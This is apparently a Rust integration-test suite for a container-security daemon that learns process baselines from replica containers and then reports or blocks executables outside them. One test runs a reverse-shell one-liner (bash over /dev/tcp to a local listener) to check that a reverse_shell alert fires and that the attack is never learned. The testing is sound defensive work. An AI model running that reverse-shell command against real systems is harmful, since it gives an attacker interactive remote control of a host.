//! A baseline from the first act to the last: learned of two replicas, promoted, told of, held to.

use crate::container::{Container, Group};
use crate::daemon::{self, Daemon, Pins, Settings, outcome};
use crate::engine;
use crate::lab::Peer;
use crate::pace;
use crate::refusals::lsm;
use crate::restart::Bpffs;
use crate::shared;
use anyhow::{Context, Result, ensure};
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

/// What a service does in this play: a look around, a shell for a look at itself, and a script for another.
const WORK: &str = "ls / > /dev/null; sh -c 'id > /dev/null; true'; \
                    printf '#!/bin/sh\\nid > /dev/null\\n' > /tmp/own; chmod +x /tmp/own; /tmp/own";
/// Name of the file that belongs to the image.
const NAME: &str = "play=1.toml";

pub struct Play {
    /// It.
    pub daemon: Daemon,
    /// Both of the image `play:1`.
    pub containers: [Container; 2],
    baselines: PathBuf,
    settings: Settings,
    // Dropped last.
    _folder: tempfile::TempDir,
    group: Group,
}

/// Two containers of one image, under a daemon that learns.
fn play() -> Result<Play> {
    let group = Group::make()?;
    let containers = [Container::start(&group)?, Container::start(&group)?];
    play_with(group, containers, "runtime_exec = \"deny\"", Some(shared::pins()?.pins("keep")))
}

/// With containers and settings of the caller's; `rest` is what else is in `[baseline]`.
pub fn play_with(group: Group, containers: [Container; 2], rest: &str, pins: Option<Pins>) -> Result<Play> {
    let folder = tempfile::tempdir()?;
    let socket = folder.path().join("engine.sock");
    let entry = |container: &Container, name: &str| {
        let id = container.id();
        format!(r#"{{"Id":"{id}","Names":["/{name}"],"Image":"play:1","ImageID":"","State":"running","Labels":{{}}}}"#)
    };
    let [one, two] = &containers;
    engine::serve(&socket, &format!("[{},{}]", entry(one, "one"), entry(two, "two")))?;
    let baselines = folder.path().join("baselines");
    let settings = Settings {
        engine: format!("docker = true\ndocker_socket = \"{}\"", socket.display()),
        baseline: format!(
            "folder = \"{}\"\nlearn = [\"play\"]\nsettle_s = 2\nwrite_s = 1\n{rest}",
            baselines.display()
        ),
        pins,
        ..Settings::mode("protect")
    };
    let daemon = Daemon::start(&group, &settings)?;
    Ok(Play { daemon, containers, baselines, settings, _folder: folder, group })
}

impl Play {
    fn text(&self) -> String {
        fs::read_to_string(self.baselines.join(NAME)).unwrap_or_default()
    }

    /// Waits until its file is as wanted.
    pub fn await_text(&self, what: &str, wanted: impl Fn(&str) -> bool) -> Result<()> {
        let until = Instant::now() + pace::wait(Duration::from_secs(15));
        while !wanted(&self.text()) {
            ensure!(Instant::now() < until, "{what}: not in time:\n{}\n{}", self.text(), self.daemon.log());
            std::thread::sleep(Duration::from_millis(50));
        }
        Ok(())
    }

    /// Writes the file by hand; waits until the daemon has read it.
    pub fn write(&self, text: &str) -> Result<()> {
        let before = self.notices("baseline_changed");
        fs::create_dir_all(&self.baselines)?;
        fs::write(self.baselines.join(NAME), text)?;
        self.await_change(before)
    }

    /// `bulkhead baseline …`; waits until the daemon has read what it changed.
    pub fn change(&self, arguments: &[&str]) -> Result<()> {
        let before = self.notices("baseline_changed");
        let (ok, said) = baseline(&self.baselines, arguments)?;
        ensure!(ok, "{arguments:?}: {said}");
        self.await_change(before)
    }

    fn await_change(&self, before: usize) -> Result<()> {
        let more = |daemon: &Daemon| notices(daemon, "baseline_changed") > before;
        let until = Instant::now() + pace::wait(Duration::from_secs(8));
        while !more(&self.daemon) {
            ensure!(Instant::now() < until, "the change is not read:\n{}", self.daemon.log());
            std::thread::sleep(Duration::from_millis(20));
        }
        Ok(())
    }

    /// The daemon is killed, and another starts with the same settings.
    fn restart(&mut self) -> Result<()> {
        self.daemon.kill_9()?;
        self.daemon = Daemon::start(&self.group, &self.settings)?;
        Ok(())
    }

    fn notices(&self, action: &str) -> usize {
        notices(&self.daemon, action)
    }

    fn deviations(&self, container: &Container) -> usize {
        self.daemon.alerts("baseline_exec", container.id()).len()
    }
}

fn notices(daemon: &Daemon, action: &str) -> usize {
    daemon.rows().iter().filter(|row| row["event"]["action"] == action).count()
}

fn baseline(folder: &Path, arguments: &[&str]) -> Result<(bool, String)> {
    let mut command = Command::new(daemon::program()?);
    let output = command.arg("baseline").args(arguments).arg("--folder").arg(folder).output().context("baseline")?;
    let said = [output.stdout, output.stderr].concat();
    Ok((output.status.success(), String::from_utf8_lossy(&said).into_owned()))
}

/// A hundred times on a host, from each of four tasks, by what the shell has built in.
fn often(command: &str) -> String {
    let times = pace::times(100);
    format!("for t in 1 2 3 4; do (i=0; while [ $i -lt {times} ]; do {command}; i=$((i+1)); done) & done; wait")
}

/// Refused where LSM programs can, else killed before its first instruction.
pub fn is_stopped(alert: &Value) -> Result<()> {
    let by = alert["bulkhead"]["enforced_by"].as_str().unwrap_or_default();
    let wanted = if lsm() { ("denied", "lsm") } else { ("killed", "signal") };
    ensure!((outcome(alert), by) == wanted, "{} by {by}: {}", outcome(alert), alert["message"]);
    Ok(())
}

/// Two replicas teach, an attack meanwhile does not; what was not learned is told in `monitor` and stopped in `protect`.
pub fn learned_baseline_is_held() -> Result<()> {
    let play = play()?;
    let [one, two] = &play.containers;
    for container in [one, two] {
        let end = container.run(WORK)?;
        ensure!(end.success(), "the work fails ({end}): {:#?}", play.daemon.rows());
    }
    let peer = Peer::shell(one.listen()?, "touch /tmp/owned\n", pace::wait(Duration::from_secs(2)))?;
    one.run(&format!("wc -l /etc/passwd; bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port))?;
    play.daemon.await_alert("reverse_shell", one.id())?;
    let replicas = |text: &str| [one, two].iter().all(|container| text.contains(&container.id()[..12]));
    play.await_text("learned of both", |text| text.contains("/ls\"") && text.contains("/id\"") && replicas(text))?;
    for never in ["/bash\"", "/wc\"", "127.0.0.1"] {
        ensure!(!play.text().contains(never), "an attack was learned ({never}):\n{}", play.text());
    }

    play.change(&["promote", "play", "--quiet", "0"])?;
    two.run(WORK)?;
    ensure!(two.run("touch /tmp/told")?.success(), "monitor mode touched it");
    let alert = play.daemon.await_alert("baseline_exec", two.id())?;
    ensure!(outcome(&alert) == "observed", "outcome {}", outcome(&alert));
    ensure!(alert["message"].as_str().is_some_and(|said| said.contains("/touch")), "{}", alert["message"]);
    ensure!(two.path("/tmp/told").exists(), "monitor mode touched it");
    ensure!(play.deviations(two) == 1, "what was learned is told of");

    ensure!(!baseline(&play.baselines, &["promote", "play", "--quiet", "0"])?.0, "promoted without a comparison");
    play.change(&["promote", "play", "--quiet", "0", "--force"])?;
    one.run(WORK)?;
    one.run(&often("perl -e 'open F, \">/tmp/effect\"'"))?;
    let alert = play.daemon.await_alert("baseline_exec", one.id())?;
    is_stopped(&alert)?;
    ensure!(alert["message"].as_str().is_some_and(|said| said.contains("/perl")), "{}", alert["message"]);
    ensure!(!one.path("/tmp/effect").exists(), "what is not in the baseline ran");
    let killed = play.deviations(one);
    one.run(&often("ls / > /dev/null || echo failed > /tmp/failed"))?;
    ensure!(one.run(WORK)?.success() && !one.path("/tmp/failed").exists(), "what was learned is stopped");
    ensure!(play.deviations(one) == killed, "what was learned is told of");

    play.change(&["demote", "play"])?;
    ensure!(one.run("touch /tmp/told")?.success() && one.path("/tmp/told").exists(), "held to it all the same");
    Ok(())
}

/// A file that is not accepted changes nothing, and is told with line and entry.
pub fn broken_baseline_changes_nothing() -> Result<()> {
    let play = play()?;
    let [one, _] = &play.containers;
    one.run(WORK)?;
    play.await_text("learned", |text| text.contains("/id\""))?;
    play.change(&["promote", "play", "--quiet", "0"])?;
    let good = play.text();
    fs::write(play.baselines.join(NAME), format!("{good}\n[[listen]]\nexe = \"bin/x\"\nport = \"80\"\n"))?;
    let told =
        play.daemon.await_row("refusal", Duration::from_secs(8), |row| row["event"]["action"] == "baseline_refused")?;
    let said = told["message"].as_str().unwrap_or_default();
    ensure!(said.contains("listen[0].exe") && said.contains("the one before stays"), "{said}");
    one.run(WORK)?;
    one.run("touch /tmp/x")?;
    play.daemon.await_alert("baseline_exec", one.id())?;
    ensure!(play.deviations(one) == 1, "the former baseline does not hold");
    let (ok, said) = baseline(&play.baselines, &["validate"])?;
    ensure!(!ok && said.contains("listen[0].exe"), "{said}");
    Ok(())
}

/// A first process that runs what it finds at /job.
pub const SERVICE: &str =
    "sh -c 'while :; do if [ -e /job ]; then . /job; rm /job; fi; sleep 0.2; done' # until it is killed";

/// Lets the service do something, and waits until it has.
pub fn job(container: &Container, script: &str) -> Result<()> {
    let path = container.path("/job");
    fs::write(&path, format!("{script}\n"))?;
    let until = Instant::now() + pace::wait(Duration::from_secs(10));
    while path.exists() {
        ensure!(Instant::now() < until, "the service does not take `{script}`");
        std::thread::sleep(Duration::from_millis(20));
    }
    Ok(())
}

/// What the service starts is held to its baseline in the kernel, with the daemon and without it; sessions from outside are told
/// of only.
pub fn baseline_holds_the_service_without_a_daemon() -> Result<()> {
    let (group, pins) = (Group::make()?, Bpffs::mount()?);
    let containers = [Container::start_as(&group, SERVICE)?, Container::start(&group)?];
    let mut play = play_with(group, containers, "", Some(pins.pins("keep")))?;
    let attack = |file: &str| format!("perl -e 'open F, \">{file}\"'");
    job(&play.containers[0], "ls / > /dev/null")?;
    play.await_text("learned", |text| ["/ls\"", "/rm\"", "/sleep\""].iter().all(|exe| text.contains(exe)))?;
    play.change(&["promote", "play", "--quiet", "0"])?;
    play.change(&["promote", "play", "--quiet", "0", "--force"])?;
    let service = &play.containers[0];
    job(service, &format!("{}; ls / > /works", attack("/effect")))?;
    ensure!(!service.path("/effect").exists(), "what is not in the baseline ran");
    ensure!(fs::metadata(service.path("/works"))?.len() > 0, "what was learned is stopped");
    is_stopped(&play.daemon.await_alert("baseline_exec", service.id())?)?;
    service.run(&attack("/session"))?;
    ensure!(service.path("/session").exists(), "a session from outside was held to it");

    play.daemon.kill_9()?;
    let service = &play.containers[0];
    job(service, &format!("{}; ls / > /still-works", attack("/alone")))?;
    ensure!(!service.path("/alone").exists(), "it ended with the daemon");
    ensure!(fs::metadata(service.path("/still-works"))?.len() > 0, "what was learned is stopped");
    Ok(())
}

/// What is in the file is held to by a daemon's successor, in a container that taught nothing of it, and on a host that
/// has nothing but the file; nothing is learned for that.
pub fn baseline_file_is_all_it_takes() -> Result<()> {
    let start = || -> Result<(Group, [Container; 2])> {
        let group = Group::make()?;
        let containers = [Container::start_as(&group, SERVICE)?, Container::start_as(&group, SERVICE)?];
        Ok((group, containers))
    };
    let holds = |play: &Play, container: &Container| -> Result<()> {
        job(container, "rm -f /effect /works; perl -e 'open F, \">/effect\"'; ls / > /works")?;
        ensure!(!container.path("/effect").exists(), "what is not in the baseline ran");
        ensure!(fs::metadata(container.path("/works"))?.len() > 0, "what was learned is stopped");
        is_stopped(&play.daemon.await_alert("baseline_exec", container.id())?)?;
        ensure!(play.deviations(container) == 1, "what was learned is told of");
        Ok(())
    };
    let (pins, (group, containers)) = (Bpffs::mount()?, start()?);
    let mut play = play_with(group, containers, "", Some(pins.pins("keep")))?;
    job(&play.containers[0], "ls / > /dev/null")?;
    play.await_text("learned", |text| ["/ls\"", "/rm\"", "/sleep\""].iter().all(|exe| text.contains(exe)))?;
    play.change(&["promote", "play", "--quiet", "0"])?;
    play.change(&["promote", "play", "--quiet", "0", "--force"])?;
    let text = play.text();
    for what in ["first daemon", "its successor"] {
        for container in &play.containers {
            holds(&play, container).with_context(|| what.to_owned())?;
        }
        play.restart()?;
    }
    ensure!(play.text() == text, "it was written again");
    drop(play);

    let (group, containers) = start()?;
    let play = play_with(group, containers, "", None)?;
    play.write(&text)?;
    for container in &play.containers {
        holds(&play, container).context("another host")?;
    }
    ensure!(play.text() == text, "it was learned anew");
    Ok(())
}

/// From the first act to being held to it, without a person: what it goes on doing works, what it never did is stopped.
pub fn quiet_baseline_protects_by_itself() -> Result<()> {
    let group = Group::make()?;
    let containers = [Container::start_as(&group, SERVICE)?, Container::start(&group)?];
    let play = play_with(group, containers, "promote = \"protect\"\npromote_quiet_s = 3", None)?;
    let [service, _] = &play.containers;
    job(service, "true")?;
    play.await_text("learned", |text| !text.is_empty() && !text.contains("mode = \"learn\""))?;
    play.await_text("compared", |text| text.contains("mode = \"protect\""))?;
    ensure!(play.notices("baseline_promoted") == 2, "{} notices", play.notices("baseline_promoted"));
    let before = play.deviations(service);
    job(service, "perl -e 'open F, \">/effect\"'; echo > /works")?;
    ensure!(service.path("/works").exists(), "the service is stopped");
    ensure!(!service.path("/effect").exists(), "what is not in the baseline ran");
    is_stopped(&play.daemon.await_alert("baseline_exec", service.id())?)?;
    ensure!(before == 0, "what it has done all the time is told of");
    Ok(())
}
